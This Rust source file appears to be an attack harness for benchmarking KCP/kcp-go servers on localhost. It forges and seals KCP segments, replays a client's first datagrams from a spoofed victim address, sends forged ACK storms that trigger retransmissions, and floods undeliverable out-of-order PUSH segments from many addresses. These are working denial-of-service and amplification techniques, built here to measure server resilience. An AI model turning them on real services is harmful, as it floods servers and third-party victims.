//! The datagram attacks: KCP segments forged or replayed in kcp-go's framing (the
//! bench's key, cipher and FEC settings), and a relay between a genuine client and the
//! server that records, parses and cuts its traffic.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use kcp_crypt::{NonceRng, PacketCipher};
use kcp_fec::{DATA_HEADER_LEN, PacketKind, TYPE_DATA};
use kcp_session::{KcpStream, OwnedReadHalf, Settings};
use kcp_tunnel::smux::frame::{Cmd, Header};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::UdpSocket;
use tokio::task::JoinHandle;

use crate::{GRACE, settings};

/// ikcp's `IKCP_CMD_PUSH`.
const CMD_PUSH: u8 = 81;
/// ikcp's `IKCP_CMD_ACK`.
const CMD_ACK: u8 = 82;
/// ikcp's `IKCP_CMD_WASK` (a window probe).
pub(crate) const CMD_WASK: u8 = 83;
/// Bytes of a KCP segment header.
const KCP_HEADER: usize = 24;
/// The window every forged segment advertises (both servers' default).
pub(crate) const WND: u16 = 1024;

/// One parsed KCP segment header.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Seg {
    pub(crate) conv: u32,
    pub(crate) cmd: u8,
    pub(crate) wnd: u16,
    pub(crate) ts: u32,
    pub(crate) sn: u32,
    pub(crate) una: u32,
}

/// The segments of a KCP frame (stops at the first one that does not fit).
fn segments(mut kcp: &[u8]) -> Vec<Seg> {
    let u32_at = |b: &[u8], i: usize| u32::from_le_bytes(b[i..i + 4].try_into().unwrap());
    let mut out = Vec::new();
    while kcp.len() >= KCP_HEADER {
        let len = u32_at(kcp, 20) as usize;
        if kcp.len() - KCP_HEADER < len {
            break;
        }
        out.push(Seg {
            conv: u32_at(kcp, 0),
            cmd: kcp[4],
            wnd: u16::from_le_bytes([kcp[6], kcp[7]]),
            ts: u32_at(kcp, 8),
            sn: u32_at(kcp, 12),
            una: u32_at(kcp, 16),
        });
        kcp = &kcp[KCP_HEADER + len..];
    }
    out
}

/// Appends one KCP segment (frg 0) to `out`.
pub(crate) fn segment(out: &mut Vec<u8>, s: Seg, data: &[u8]) {
    out.extend_from_slice(&s.conv.to_le_bytes());
    out.extend_from_slice(&[s.cmd, 0]);
    out.extend_from_slice(&s.wnd.to_le_bytes());
    for v in [s.ts, s.sn, s.una, data.len() as u32] {
        out.extend_from_slice(&v.to_le_bytes());
    }
    out.extend_from_slice(data);
}

/// kcp-go's framing with the bench's settings: an FEC data header if FEC is on, then the
/// cipher's nonce and checksum.
pub(crate) struct Framing {
    settings: Settings,
    rng: NonceRng,
    fec_seq: u32,
}

impl Framing {
    pub(crate) fn new() -> Framing {
        Framing {
            settings: settings(),
            rng: NonceRng::from_os_rng().unwrap(),
            fec_seq: 0,
        }
    }

    /// The KCP payload of a full-MTU datagram.
    fn max_data(&self) -> usize {
        self.settings.config().mtu
            - self.settings.header_len()
            - self.settings.trailer_len()
            - KCP_HEADER
    }

    /// `kcp` framed and sealed, ready to send.
    pub(crate) fn seal(&mut self, kcp: &[u8]) -> Vec<u8> {
        let mut payload = Vec::with_capacity(DATA_HEADER_LEN + kcp.len());
        if self.settings.fec().is_some() {
            fec_header(&mut payload, self.fec_seq, TYPE_DATA, kcp.len());
            self.fec_seq = self.fec_seq.wrapping_add(1);
        }
        payload.extend_from_slice(kcp);
        self.seal_payload(&payload)
    }

    /// `payload` (FEC header included, if any) sealed with the cipher.
    pub(crate) fn seal_payload(&mut self, payload: &[u8]) -> Vec<u8> {
        let crypt = self.settings.crypt();
        let head = crypt.header_len();
        let mut buf = vec![0u8; head];
        buf.extend_from_slice(payload);
        let payload = buf.len() - head;
        buf.resize(buf.len() + crypt.trailer_len(), 0);
        let n = crypt.seal(&mut buf, payload, &mut self.rng).unwrap();
        buf.truncate(n);
        buf
    }
}

/// Appends kcp-go's FEC header: seqid, type, and the size field (`len` + 2).
pub(crate) fn fec_header(out: &mut Vec<u8>, seqid: u32, kind: u16, len: usize) {
    out.extend_from_slice(&seqid.to_le_bytes());
    out.extend_from_slice(&kind.to_le_bytes());
    out.extend_from_slice(&((len + 2) as u16).to_le_bytes());
}

/// The KCP frame in a datagram sealed with `settings`, or `None` (parity, garbage).
fn open(settings: &Settings, datagram: &[u8]) -> Option<Vec<u8>> {
    let mut buf = datagram.to_vec();
    let range = settings.crypt().open(&mut buf).ok()?;
    let payload = &buf[range];
    if settings.fec().is_some() {
        (kcp_fec::classify(payload) == PacketKind::Data)
            .then(|| payload.get(DATA_HEADER_LEN..).map(<[u8]>::to_vec))
            .flatten()
    } else {
        Some(payload.to_vec())
    }
}

/// What the relay saw.
#[derive(Default)]
struct Tap {
    /// Client datagrams are forwarded to the server.
    forward: bool,
    /// The client is cut off: nothing passes either way from now on.
    cut: bool,
    /// The genuine client's address.
    client: Option<SocketAddr>,
    /// The client's first datagrams, as sent.
    recorded: Vec<Vec<u8>>,
    /// Bytes the server sent after the cut.
    after_cut: u64,
    /// The conversation, and the last `una` and window the client sent.
    conv: u32,
    una: u32,
    wnd: u16,
    /// The highest PUSH sn the server sent.
    top: Option<u32>,
    /// The latest ts of a PUSH from the server (its clock), and when it arrived.
    clock: Option<(u32, Instant)>,
}

/// A UDP relay between a genuine client (on `front`) and the server (from `back`).
struct Relay {
    front: SocketAddr,
    back: Arc<UdpSocket>,
    tap: Arc<Mutex<Tap>>,
    tasks: [JoinHandle<()>; 2],
}

impl Drop for Relay {
    fn drop(&mut self) {
        for t in &self.tasks {
            t.abort();
        }
    }
}

impl Relay {
    async fn start(server: u16, forward: bool) -> Relay {
        let front = Arc::new(UdpSocket::bind("127.0.0.1:0").await.unwrap());
        let back = Arc::new(UdpSocket::bind("127.0.0.1:0").await.unwrap());
        back.connect(("127.0.0.1", server)).await.unwrap();
        let tap = Arc::new(Mutex::new(Tap {
            forward,
            ..Tap::default()
        }));
        let s = settings();
        let up = {
            let (front, back, tap, s) = (front.clone(), back.clone(), tap.clone(), s.clone());
            tokio::spawn(async move {
                let mut buf = vec![0u8; 65536];
                while let Ok((n, from)) = front.recv_from(&mut buf).await {
                    let dg = &buf[..n];
                    {
                        let mut t = tap.lock().unwrap();
                        t.client = Some(from);
                        if t.recorded.len() < 64 {
                            t.recorded.push(dg.to_vec());
                        }
                        if t.cut || !t.forward {
                            continue;
                        }
                        for seg in open(&s, dg).as_deref().map(segments).unwrap_or_default() {
                            t.conv = seg.conv;
                            t.una = seg.una;
                            t.wnd = seg.wnd;
                        }
                    }
                    let _ = back.send(dg).await;
                }
            })
        };
        let down = {
            let (front, back, tap) = (front.clone(), back.clone(), tap.clone());
            tokio::spawn(async move {
                let mut buf = vec![0u8; 65536];
                while let Ok(n) = back.recv(&mut buf).await {
                    let dg = &buf[..n];
                    let to = {
                        let mut t = tap.lock().unwrap();
                        let pushes = open(&s, dg).as_deref().map(segments).unwrap_or_default();
                        for seg in pushes.into_iter().filter(|s| s.cmd == CMD_PUSH) {
                            if t.top.is_none_or(|sn| seg.sn.wrapping_sub(sn) as i32 > 0) {
                                t.top = Some(seg.sn);
                            }
                            if t.clock
                                .is_none_or(|(ts, _)| seg.ts.wrapping_sub(ts) as i32 > 0)
                            {
                                t.clock = Some((seg.ts, Instant::now()));
                            }
                        }
                        if t.cut {
                            t.after_cut += n as u64;
                            continue;
                        }
                        t.client
                    };
                    if let Some(to) = to {
                        let _ = front.send_to(dg, to).await;
                    }
                }
            })
        };
        Relay {
            front: front.local_addr().unwrap(),
            back,
            tap,
            tasks: [up, down],
        }
    }
}

/// A genuine client through `relay` that opens stream 3 and asks the target for its big
/// reply.
async fn ask_big(relay: &Relay) -> (OwnedReadHalf, kcp_session::OwnedWriteHalf) {
    let kcp = KcpStream::connect(&relay.front.to_string(), &settings())
        .await
        .unwrap();
    let (r, mut w) = kcp.into_split();
    let mut open = Vec::new();
    Header::emit(&mut open, 1, Cmd::Syn, 0, 3);
    Header::emit(&mut open, 1, Cmd::Psh, 4, 3);
    open.extend_from_slice(b"BIG ");
    w.write_all(&open).await.unwrap();
    (r, w)
}

/// Bytes in and out of one attack.
pub(crate) struct Flow {
    /// Bytes the attacker (or the victim, for a forger) sent.
    pub(crate) sent: u64,
    /// Bytes the server sent to the victim or attacker.
    pub(crate) out: u64,
}

/// A genuine client's first datagrams (up to the one carrying its request), sent again
/// from a victim's address that never replies; counts what the victim receives until
/// `until` plus the grace period. With `forward`, the genuine client's datagrams reached
/// the server first (a replay); without, they never did (a forger with the key, or anyone
/// when there is no encryption).
pub(crate) async fn first_datagram(server: u16, until: Instant, forward: bool) -> Flow {
    let relay = Relay::start(server, forward).await;
    let (mut r, _w) = ask_big(&relay).await;
    let s = settings();
    let first = loop {
        let rec = relay.tap.lock().unwrap().recorded.clone();
        let big = rec
            .iter()
            .position(|dg| open(&s, dg).is_some_and(|kcp| kcp.windows(4).any(|w| w == b"BIG ")));
        if let Some(i) = big {
            break rec[..=i].to_vec();
        }
        assert!(Instant::now() < until, "the client never sent its request");
        tokio::time::sleep(Duration::from_millis(5)).await;
    };
    // The genuine client takes its reply meanwhile.
    let drain = tokio::spawn(async move {
        let mut buf = vec![0u8; 65536];
        while let Ok(n) = r.read(&mut buf).await {
            if n == 0 {
                break;
            }
        }
    });
    let victim = UdpSocket::bind("127.0.0.3:0").await.unwrap();
    victim.connect(("127.0.0.1", server)).await.unwrap();
    let mut flow = Flow { sent: 0, out: 0 };
    for dg in &first {
        victim.send(dg).await.unwrap();
        flow.sent += dg.len() as u64;
    }
    let end = until + GRACE;
    let mut buf = vec![0u8; 65536];
    while let Ok(Ok(n)) = tokio::time::timeout(
        end.saturating_duration_since(Instant::now()),
        victim.recv(&mut buf),
    )
    .await
    {
        flow.out += n as u64;
    }
    drain.abort();
    flow
}

/// A genuine client asks for the big reply, reads 256 KiB of it, then goes silent; from its
/// address the attacker then sends, until `until`, datagrams of two ACK segments each for
/// the highest sn the server has sent (repeats of an acknowledged sn after the first),
/// echoing the server's current clock and advertising the client's last window (so they
/// open no window the client had not), about 8 KB in all (`acks` false: none, the baseline of what the server sends anyway).
/// Counts the server's bytes to that address from the cut to `until` plus the grace period.
pub(crate) async fn ack_storm(server: u16, until: Instant, acks: bool) -> Flow {
    let relay = Relay::start(server, true).await;
    let (mut r, _w) = ask_big(&relay).await;
    let mut got = 0usize;
    let mut buf = vec![0u8; 65536];
    let flowing = async {
        while got < 256 << 10 {
            match r.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => got += n,
            }
        }
    };
    let _ = tokio::time::timeout(until.saturating_duration_since(Instant::now()), flowing).await;
    relay.tap.lock().unwrap().cut = true;
    let mut framing = Framing::new();
    let mut flow = Flow { sent: 0, out: 0 };
    let dg_len = framing.seal(&[0; 2 * KCP_HEADER]).len() as u64;
    let count = (8192 / dg_len).max(1);
    let interval = until.saturating_duration_since(Instant::now()) / count as u32;
    while acks && Instant::now() < until {
        let (conv, una, wnd, top, clock) = {
            let t = relay.tap.lock().unwrap();
            (t.conv, t.una, t.wnd, t.top, t.clock)
        };
        if let (Some(sn), Some((ts0, at))) = (top, clock) {
            // The server's clock now: kcp-go counts an ACK toward the early retransmit
            // of the segments sent before the ts it echoes, so a recent ts counts them all.
            let ts = ts0.wrapping_add(at.elapsed().as_millis() as u32);
            let mut kcp = Vec::new();
            for _ in 0..2 {
                let ack = Seg {
                    conv,
                    cmd: CMD_ACK,
                    wnd,
                    ts,
                    sn,
                    una,
                };
                segment(&mut kcp, ack, &[]);
            }
            let dg = framing.seal(&kcp);
            let _ = relay.back.send(&dg).await;
            flow.sent += dg.len() as u64;
        }
        tokio::time::sleep(interval).await;
    }
    tokio::time::sleep((until + GRACE).saturating_duration_since(Instant::now())).await;
    flow.out = relay.tap.lock().unwrap().after_cut;
    flow
}

/// From `sources` addresses (127.0.2.1, 127.0.2.2, ...: one per host, so no per-address
/// cap hides the flood), each a session of its own: full-MTU PUSH segments sn 1, 2, ...,
/// `WND - 1` (never sn 0, so none can be delivered), spread evenly until `until`, at most
/// `budget` bytes in all. Blocking; returns the bytes sent.
pub(crate) fn out_of_order(server: u16, until: Instant, sources: u8, budget: u64) -> u64 {
    let socks: Vec<std::net::UdpSocket> = (1..=sources)
        .map(|i| {
            let s =
                std::net::UdpSocket::bind(("127.0.2.".to_string() + &i.to_string(), 0)).unwrap();
            s.connect(("127.0.0.1", server)).unwrap();
            s
        })
        .collect();
    let mut framing = Framing::new();
    let data = vec![b'o'; framing.max_data()];
    let mut rng = kcp_testkit::sim::Rng::new(u64::from(server));
    let convs: Vec<u32> = socks.iter().map(|_| rng.next_u32()).collect();
    let start = Instant::now();
    let span = until.saturating_duration_since(start);
    let rounds = u32::from(WND) - 1;
    let mut sent = 0u64;
    let mut kcp = Vec::new();
    'rounds: for sn in 1..=rounds {
        for (s, &conv) in socks.iter().zip(&convs) {
            if Instant::now() >= until || sent >= budget {
                break 'rounds;
            }
            kcp.clear();
            let ts = start.elapsed().as_millis() as u32;
            let push = Seg {
                conv,
                cmd: CMD_PUSH,
                wnd: WND,
                ts,
                sn,
                una: 0,
            };
            segment(&mut kcp, push, &data);
            let dg = framing.seal(&kcp);
            if s.send(&dg).is_ok() {
                sent += dg.len() as u64;
            }
        }
        let due = start + span * sn / rounds;
        std::thread::sleep(due.saturating_duration_since(Instant::now()));
    }
    sent
}
